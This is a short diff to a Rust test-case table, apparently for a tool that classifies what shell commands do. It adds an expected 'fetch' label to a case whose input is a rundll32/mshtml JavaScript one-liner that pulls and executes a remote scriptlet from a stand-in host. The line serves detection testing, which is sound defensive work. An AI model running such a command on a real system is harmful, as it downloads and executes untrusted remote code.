@@ -314,6 +314,7 @@ pub(in super::super) const CASES: &[(&str, &str, &[&str])] = &[
         &[
             r#"run rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://192.0.2.7/a").Exec();"#,
             "evaluate javascript",
+            "fetch http://192.0.2.7/a",
         ],
     ),
 ];
